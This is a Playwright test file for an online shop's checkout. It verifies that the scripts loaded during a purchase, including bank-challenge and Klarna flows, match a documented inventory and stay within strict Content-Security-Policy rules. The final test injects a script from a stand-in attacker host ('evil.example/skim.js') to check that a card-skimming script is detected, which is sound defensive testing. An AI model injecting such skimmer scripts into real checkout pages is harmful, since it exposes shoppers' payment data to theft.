import { expect, test as base } from '@playwright/test';
import { answerBank } from './support/bank.ts';
import { CARDS } from './support/card-provider.ts';
import {
  addToBag,
  bagToDelivery,
  giveDelivery,
  openBag,
  orderNumberShown,
  pay,
  payButton,
} from './support/checkout.ts';
import { bringToPayment } from './support/fill-bag.ts';
import { agreeWithKlarna, goToKlarna, PEOPLE } from './support/klarna.ts';
import { test } from './support/test.ts';
import { watchScripts } from './support/watch-scripts.ts';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const FILE = join(import.meta.dirname, '../../docs/script-inventory.md');
const COLUMNS = ['pages', 'document', 'script', 'integrity', 'authorised by', 'purpose'];

/** One script on one page, as the inventory allows it. */
type AllowedScript = {
  page: string;
  document: string;
  /** A pattern in which * stands for any characters. */
  script: string;
  integrity: string;
};

/** The table under a heading, one entry per page. @throws Error when it is not as expected */
function readScriptInventory(heading = 'Scripts'): AllowedScript[] {
  const [, section = ''] =
    new RegExp(`^## ${heading}$([^]*?)^## `, 'm').exec(readFileSync(FILE, 'utf8')) ?? [];
  const [header, , ...rows] = section
    .split('\n')
    .filter((line) => line.startsWith('|'))
    .map((line) =>
      line
        .slice(1, -1)
        .split('|')
        .map((cell) => cell.trim().replaceAll('`', '')),
    );
  if (header?.join() !== COLUMNS.join() || rows.length === 0)
    throw new Error(`The table of ${FILE} has other columns than ${COLUMNS.join(', ')}.`);
  return rows.flatMap(([pages = '', document = '', script = '', integrity = '']) =>
    pages.split(', ').map((page) => ({ page, document, script, integrity })),
  );
}

/** Whether a script, or the address of one, is the inventory's. */
function isScript({ script }: AllowedScript, seen: string): boolean {
  const parts = script.split('*').map((part) => part.replaceAll(/[.?+^$()[\]{}|\\]/g, '\\$&'));
  return new RegExp(`^${parts.join('.*')}$`).test(seen);
}

/** Documents on which only scripts that we or the provider have authorised one by one may run. */
const STRICT = ['bag', 'delivery', 'order', 'payment', 'card field', 'bank', 'return page'];

test(
  '[N93] the scripts of a purchase with a challenge are those of the inventory, within the policies of all documents',
  { tag: '@desktop' },
  async ({ page, pieces, email }) => {
    test.slow(); // three pages are loaded twice
    const inventory = readScriptInventory();
    const watched = await watchScripts(page, base.info().project.use.baseURL ?? '');
    await addToBag(page, pieces.plenty);
    await openBag(page);
    // Each page is also loaded as a document of its own, with its own policy.
    await page.reload();
    await bagToDelivery(page);
    await giveDelivery(page, email);
    await page.reload();
    await expect(payButton(page)).toBeEnabled();
    await pay(page, CARDS.challenged);
    await answerBank(page);
    await orderNumberShown(page);
    await page.reload();
    await orderNumberShown(page);

    const scripts = watched.scripts();
    const allowed = (seen: { page: string; document?: string; script: string }) =>
      inventory.filter(
        (each) =>
          each.page === seen.page &&
          (seen.document === undefined || each.document === seen.document) &&
          isScript(each, seen.script),
      );
    expect(scripts.filter((seen) => allowed(seen).length === 0)).toEqual([]);
    expect(watched.requested().filter((seen) => allowed(seen).length === 0)).toEqual([]);
    const unseen = inventory.filter(
      (each) =>
        !scripts.some(
          (seen) => seen.page === each.page && seen.document === each.document && isScript(each, seen.script),
        ),
    );
    expect(unseen).toEqual([]);
    const withHash = scripts.filter((seen) => allowed(seen).some(({ integrity }) => integrity === 'sri'));
    expect(withHash.map(({ integrity }) => integrity)).toEqual(
      withHash.map(() => expect.stringMatching(/^sha(256|384|512)-/)),
    );

    const policies = watched.policies();
    expect([...policies.keys()].sort()).toEqual([...STRICT].sort());
    for (const [document, policy] of policies) {
      expect.soft(policy, document).toMatch(/(?:^|; )default-src '(?:none|self)'/);
      expect.soft(policy, document).toContain("base-uri 'none'");
      if (STRICT.includes(document))
        expect.soft(policy, document).not.toMatch(/script-src[^;]*(?:unsafe|\*)/);
    }
    expect(watched.violations()).toEqual([]);
  },
);

test(
  '[N93] who pays by Klarna meets its script and its frames beside those of the inventory, within the policies',
  { tag: '@desktop' },
  async ({ page, pieces, email }) => {
    const watched = await watchScripts(page, base.info().project.use.baseURL ?? '');
    await bringToPayment(page, pieces.plenty, email);
    const isKlarna = ({ script }: { script: string }) => script.includes('klarna');
    expect(watched.requested().filter(isKlarna)).toEqual([]);
    await goToKlarna(page);
    await agreeWithKlarna(page, PEOPLE.pays);
    await orderNumberShown(page);

    const chosen = readScriptInventory('Scripts of a way to pay that is chosen');
    const inventory = [...readScriptInventory(), ...chosen];
    const scripts = watched.scripts();
    const isOf = (seen: (typeof scripts)[number]) => (each: AllowedScript) =>
      each.page === seen.page && each.document === seen.document && isScript(each, seen.script);
    expect(scripts.filter((seen) => !inventory.some(isOf(seen)))).toEqual([]);
    expect(chosen.filter((each) => !scripts.some((seen) => isOf(seen)(each)))).toEqual([]);
    expect(watched.violations()).toEqual([]);
  },
);

test(
  '[N93] the check notices a script, an address and a violation that are not in the inventory',
  { tag: '@desktop' },
  async ({ page }) => {
    const watched = await watchScripts(page, base.info().project.use.baseURL ?? '');
    await page.goto('/checkout/delivery');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/skim.js';
      document.body.append(script);
    });
    await expect.poll(() => watched.violations().join()).toContain('https://evil.example/skim.js');
    const inventory = readScriptInventory();
    const strange = watched
      .scripts()
      .filter(({ script }) => !inventory.some((each) => isScript(each, script)));
    expect(strange.map(({ script }) => script)).toEqual(['https://evil.example/skim.js']);
  },
);
